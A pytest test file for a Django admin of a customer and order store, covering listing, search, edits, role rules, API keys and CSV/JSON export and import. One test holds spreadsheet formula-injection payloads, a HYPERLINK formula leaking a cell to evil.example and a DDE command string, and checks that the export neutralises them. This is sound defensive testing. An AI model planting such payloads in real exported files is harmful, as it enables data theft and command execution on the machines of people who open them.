"""The admin as an operator uses it: the list, the customer page, writes through the services, export/import."""

import csv
import io
import json

import pytest
from django.urls import reverse
from django.utils import timezone

from customers.models import Customer, Order
from tests.factories import CustomerFactory, OrderFactory, UserFactory
from wcompat.models import ApiKey
from webhooks.models import Delivery, Webhook

pytestmark = pytest.mark.django_db
LIST = reverse("admin:customers_customer_changelist")


def change_url(customer) -> str:
    return reverse("admin:customers_customer_change", args=[customer.pk])


def form_data(admin_client, url: str, **changes) -> dict:
    """What the page's form would post unchanged, with `changes`, and empty inlines."""
    response = admin_client.get(url)
    form = response.context["adminform"].form
    data = {name: value for name, value in form.initial.items() if value is not None and name != "password"}
    data.pop("date_created", None)
    data.pop("date_modified", None)
    for formset in response.context["inline_admin_formsets"]:
        prefix = formset.formset.prefix
        forms = formset.formset.initial_forms
        data.update({f"{prefix}-TOTAL_FORMS": len(forms), f"{prefix}-INITIAL_FORMS": len(forms)})
        for index, inline_form in enumerate(forms):
            for name, value in inline_form.initial.items():
                data[f"{prefix}-{index}-{name}"] = value if value is not None else ""
            data[f"{prefix}-{index}-id"] = inline_form.instance.pk
            data[f"{prefix}-{index}-customer"] = inline_form.instance.customer_id
    data.update(changes)
    return data


@pytest.mark.parametrize(
    "name",
    ["customers_customer", "customers_order", "customers_download", "wcompat_apikey", "webhooks_webhook"],
)
def test_admin_changelist_and_add_pages_load(admin_client, name):
    assert admin_client.get(reverse(f"admin:{name}_changelist")).status_code == 200
    assert admin_client.get(reverse(f"admin:{name}_add")).status_code == 200


def test_the_list_shows_the_operator_columns(admin_client, customer):
    OrderFactory(customer=customer, total="42.00", status="completed")
    html = admin_client.get(LIST).content.decode()
    for title in ("Email", "Name", "Role", "Orders", "Total spent", "Last order", "Last active", "Date created"):
        assert f">{title}<" in html or f">{title}</a>" in html, title
    assert "42.00" in html
    # The order marked the customer active today (wc_last_active: today's UTC midnight).
    assert f'<td class="field-last_active">{timezone.now():%Y-%m-%d}</td>' in html


def test_search_by_email_username_name_and_exact_id(admin_client):
    alice = CustomerFactory(username="alice", email="alice@shop.example", first_name="Alice", last_name="Liddell")
    bob = CustomerFactory(username="bob", email="bob@shop.example")

    def found(term: str) -> set[int]:
        return {customer.pk for customer in admin_client.get(LIST, {"q": term}).context["cl"].result_list}

    assert found("alice@shop") == {alice.pk}
    assert found("Liddell") == {alice.pk}
    assert found("bob") == {bob.pk}
    assert found(str(bob.pk)) >= {bob.pk}


def test_filters_and_date_hierarchy(admin_client):
    payer = CustomerFactory(is_paying_customer=True)
    CustomerFactory(role="subscriber")
    assert {c.pk for c in admin_client.get(LIST, {"is_paying_customer__exact": "1"}).context["cl"].result_list} == {
        payer.pk
    }
    year = payer.date_created.year
    assert admin_client.get(LIST, {"date_created__year": year}).status_code == 200


@pytest.mark.parametrize("count", [5, 40])
@pytest.mark.parametrize("ordering", ["", "5", "-6"])  # default, orders, total spent
def test_the_list_runs_the_same_queries_whatever_its_length(
    admin_client, django_assert_max_num_queries, count, ordering
):
    for customer in CustomerFactory.create_batch(count):
        OrderFactory(customer=customer, total="4.50", status="completed")
    with django_assert_max_num_queries(10):
        response = admin_client.get(LIST, {"o": ordering} if ordering else {})
    assert response.status_code == 200
    assert b"4.50" in response.content


def test_the_customer_page(admin_client, customer):
    order = OrderFactory(customer=customer, total="12.00", status="completed")
    html = admin_client.get(change_url(customer)).content.decode()
    assert '<input type="text" name="first_name"' in html  # single-line names
    assert 'name="billing_city"' in html
    assert 'name="shipping_city"' in html
    assert 'class="module aligned address-column"' in html
    assert reverse("admin:customers_order_change", args=[order.pk]) in html
    assert "1 orders, 12.00 spent" in html
    json_url = reverse("admin:customers_customer_json", args=[customer.pk])
    assert json_url in html
    body = admin_client.get(json_url).json()
    assert (body["id"], body["email"], body["is_paying_customer"]) == (customer.pk, customer.email, True)


def test_an_edit_goes_through_the_services(admin_client, customer, api):
    Webhook.objects.create(topic="customer.updated", delivery_url="https://hooks.example/in", status="active")
    before = Customer.objects.get(pk=customer.pk).date_modified
    data = form_data(
        admin_client, change_url(customer), first_name="Edited", billing_city="Oslo", billing_phone="+47 1"
    )
    response = admin_client.post(change_url(customer), data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    stored = Customer.objects.get(pk=customer.pk)
    assert stored.first_name == "Edited"
    assert stored.date_modified != before
    billing = api.get(f"/wp-json/wc/v3/customers/{customer.pk}").json()["billing"]
    assert (billing["city"], billing["phone"], billing["address_1"]) == ("Oslo", "+47 1", "123 South Street")
    assert Delivery.objects.filter(topic="customer.updated", resource_id=customer.pk).exists()


@pytest.mark.parametrize(
    ("changes", "field", "message"),
    [
        ({"email": "not-an-email"}, "email", "Invalid email address"),
        ({"email": "taken@example.com"}, "email", "This email is already registered to"),
        ({"billing_email": "nope"}, "billing_email", "Invalid billing email address"),
    ],
)
def test_an_invalid_edit_is_a_form_error(admin_client, customer, changes, field, message):
    CustomerFactory(email="taken@example.com")
    response = admin_client.post(change_url(customer), form_data(admin_client, change_url(customer), **changes))
    assert response.status_code == 200
    assert any(message in str(error) for error in response.context["adminform"].form.errors[field])
    assert Customer.objects.get(pk=customer.pk).email == "test@woo.local"


def test_the_role_rules_hold_in_the_admin(admin_client):
    manager = CustomerFactory(role="shop_manager", email="manager@example.com")
    response = admin_client.post(
        change_url(manager), form_data(admin_client, change_url(manager), email="m2@example.com")
    )
    assert "cannot be changed here" in str(response.context["adminform"].form.errors["email"])
    delete = reverse("admin:customers_customer_delete", args=[manager.pk])
    assert admin_client.post(delete, {"post": "yes"}).status_code == 403
    assert Customer.objects.filter(pk=manager.pk).exists()


def test_adding_a_customer_uses_the_services(admin_client):
    response = admin_client.get(reverse("admin:customers_customer_add"))
    data = dict.fromkeys(response.context["adminform"].form.fields, "")
    data.update(
        {
            "username": "new.one",
            "email": "new.one@example.com",
            "first_name": "New",
            "role": "subscriber",
            "password": "s3cret-enough",
            "shipping_city": "Lima",
            "meta-TOTAL_FORMS": 0,
            "meta-INITIAL_FORMS": 0,
            "downloads-TOTAL_FORMS": 0,
            "downloads-INITIAL_FORMS": 0,
            "orders-TOTAL_FORMS": 0,
            "orders-INITIAL_FORMS": 0,
        }
    )
    response = admin_client.post(reverse("admin:customers_customer_add"), data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    created = Customer.objects.get(username="new.one")
    assert (created.role, created.display_name, created.date_modified is not None) == ("subscriber", "new.one", True)
    assert created.password.startswith("md5$")  # hashed (the tests' fast hasher)
    assert created.addresses.get(type="shipping").city == "Lima"
    duplicate = admin_client.post(reverse("admin:customers_customer_add"), {**data, "username": "other"})
    assert "already registered" in str(duplicate.context["adminform"].form.errors["email"])


def test_orders_saved_in_the_admin_move_the_figures(admin_client, customer):
    Customer.objects.filter(pk=customer.pk).update(date_modified=None)
    data = {"customer": customer.pk, "status": "completed", "total": "9.99", "date_created_0": "2026-01-02",
            "date_created_1": "10:00:00", "order_key": "wc_order_admin1"}  # fmt: skip
    assert admin_client.post(reverse("admin:customers_order_add"), data).status_code == 302
    stored = Customer.objects.get(pk=customer.pk)
    assert stored.is_paying_customer is True
    assert stored.date_modified is not None
    assert Order.objects.get().order_key == "wc_order_admin1"


#
# Export and previewed import
#


def test_export_to_csv_and_json(admin_client, customer):
    OrderFactory(customer=customer, total="3.00", status="completed")
    response = admin_client.post(reverse("admin:customers_customer_export"), {"format": "0", **_all_export_fields()})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0]["email"] == "test@woo.local"
    assert rows[0]["billing_city"] == "San Francisco"
    assert rows[0]["total_spent"] == "3.00"
    # Selected customers: the action asks for the format and columns, then exports those customers only.
    CustomerFactory()
    chosen = admin_client.post(LIST, {"action": "export_admin_action", "_selected_action": [customer.pk]})
    items = chosen.context["form"].initial["export_items"]
    response = admin_client.post(
        reverse("admin:customers_customer_export"), {"format": "1", "export_items": items, **_all_export_fields()}
    )
    exported = json.loads(response.content)
    assert [(row["id"], row["shipping_address_1"]) for row in exported] == [(str(customer.pk), "123 South Street")]


def _all_export_fields() -> dict[str, str]:
    from customers.resources import CustomerResource

    return {f"customerresource_{name}": "on" for name in CustomerResource().fields}


def test_a_csv_import_is_previewed_then_written_through_the_services(admin_client, customer):
    CustomerFactory(email="taken@example.com")
    file = io.StringIO()
    writer = csv.writer(file)
    writer.writerow(["id", "email", "username", "first_name", "billing_city"])
    writer.writerow([customer.pk, customer.email, customer.username, "Imported", "Quito"])
    writer.writerow(["", "fresh@example.com", "fresh", "Fresh", "Accra"])
    writer.writerow(["", "taken@example.com", "dup", "Dup", ""])
    upload = io.BytesIO(file.getvalue().encode())
    upload.name = "customers.csv"
    preview = admin_client.post(
        reverse("admin:customers_customer_import"), {"import_file": upload, "format": "0", "resource": "0"}
    )
    assert preview.status_code == 200
    result = preview.context["result"]
    assert result.has_validation_errors()
    assert "already registered" in preview.content.decode()
    assert Customer.objects.get(pk=customer.pk).first_name == "Justin"  # nothing written by the preview

    file.seek(0)
    good = "\n".join(file.getvalue().splitlines()[:3]).encode()
    upload = io.BytesIO(good)
    upload.name = "customers.csv"
    preview = admin_client.post(
        reverse("admin:customers_customer_import"), {"import_file": upload, "format": "0", "resource": "0"}
    )
    confirm = preview.context["confirm_form"]
    response = admin_client.post(reverse("admin:customers_customer_process_import"), confirm.initial)
    assert response.status_code == 302
    assert Customer.objects.get(pk=customer.pk).first_name == "Imported"
    assert Customer.objects.get(pk=customer.pk).addresses.get(type="billing").city == "Quito"
    fresh = Customer.objects.get(email="fresh@example.com")
    assert fresh.addresses.get(type="billing").city == "Accra"


def test_adding_an_api_key_shows_the_credentials_once(admin_client):
    owner = UserFactory()
    response = admin_client.post(
        reverse("admin:wcompat_apikey_add"),
        {"user": owner.pk, "description": "shop app", "permissions": "read"},
        follow=True,
    )
    key = ApiKey.objects.get(description="shop app")
    message = next(iter(response.context["messages"])).message
    assert "ck_" in message
    assert key.consumer_secret in message
    assert key.truncated_key in message
    assert key.consumer_key not in response.content.decode()  # the hash is never shown


FORMULAS = {
    "first_name": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "last_name": "+1+cmd|' /C calc'!A0",
    "billing_city": "-2+3",
    "billing_company": "@SUM(1,2)",
    "billing_phone": "+1 555 0100",
}


def test_a_csv_export_writes_no_formula_and_imports_back_unchanged(admin_client, api):
    body = {
        "email": "formula@example.com",
        "first_name": FORMULAS["first_name"],
        "last_name": FORMULAS["last_name"],
        "billing": {"city": "-2+3", "company": "@SUM(1,2)", "phone": "+1 555 0100"},
    }
    created = api.post("/wp-json/wc/v3/customers", body, format="json")
    assert created.status_code == 201, created.content
    response = admin_client.post(reverse("admin:customers_customer_export"), {"format": "0", **_all_export_fields()})
    exported = response.content.decode("utf-8-sig")
    [row] = csv.DictReader(io.StringIO(exported))
    for column, value in FORMULAS.items():
        assert row[column] == f"'{value}", column
    # Every cell of the file: none starts a formula.
    for cells in csv.reader(io.StringIO(exported)):
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]

    upload = io.BytesIO(exported.encode())
    upload.name = "customers.csv"
    preview = admin_client.post(
        reverse("admin:customers_customer_import"), {"import_file": upload, "format": "0", "resource": "0"}
    )
    assert not preview.context["result"].has_validation_errors()
    confirm = preview.context["confirm_form"]
    assert admin_client.post(reverse("admin:customers_customer_process_import"), confirm.initial).status_code == 302
    stored = api.get(f"/wp-json/wc/v3/customers/{created.json()['id']}").json()
    assert (stored["first_name"], stored["last_name"]) == (FORMULAS["first_name"], FORMULAS["last_name"])
    assert stored["billing"]["city"] == "-2+3"
    assert stored["billing"]["phone"] == "+1 555 0100"


def test_the_customer_page_shows_the_latest_orders_and_links_all_of_them(admin_client, customer):
    orders = [OrderFactory(customer=customer, total="1.00", status="completed") for _ in range(25)]
    html = admin_client.get(change_url(customer)).content.decode()
    shown = [order.pk for order in orders if f">#{order.pk}</a>" in html]
    assert shown == [order.pk for order in orders[-20:]]  # the 20 latest
    listing = reverse("admin:customers_order_changelist") + f"?customer__id__exact={customer.pk}"
    assert f'<a href="{listing}">All 25 orders of this customer</a>' in html
    orders_page = admin_client.get(listing)
    assert orders_page.status_code == 200
    assert orders_page.context["cl"].result_count == 25
    assert change_url(customer) in orders_page.content.decode()  # and back to the customer


def test_last_order_is_the_same_order_on_the_list_and_the_page(admin_client, customer):
    from datetime import UTC, datetime

    newest = OrderFactory(customer=customer, total="1.00", status="completed")
    OrderFactory(customer=customer, total="2.00", status="completed")
    Order.objects.filter(pk=newest.pk).update(date_created=datetime(2030, 1, 1, tzinfo=UTC))  # dated later
    html = admin_client.get(LIST).content.decode()
    last = Order.objects.filter(customer=customer).order_by("-id").first()
    assert f'<td class="field-last_order_date">{last.date_created:%Y-%m-%d}</td>' in html
    assert (
        f"last order: #{last.pk} on {last.date_created:%Y-%m-%d}"
        in admin_client.get(change_url(customer)).content.decode()
    )


@pytest.mark.parametrize("adding", [False, True])
def test_a_taken_email_names_the_customer_it_belongs_to(admin_client, customer, adding):
    other = CustomerFactory(email="taken@example.com")
    url = reverse("admin:customers_customer_add") if adding else change_url(customer)
    data = form_data(admin_client, url, email="TAKEN@example.com", username="newcomer" if adding else customer.username)
    response = admin_client.post(url, data)
    assert response.status_code == 200
    link = reverse("admin:customers_customer_change", args=[other.pk])
    assert f'already registered to <a href="{link}">customer #{other.pk}</a>' in response.content.decode()
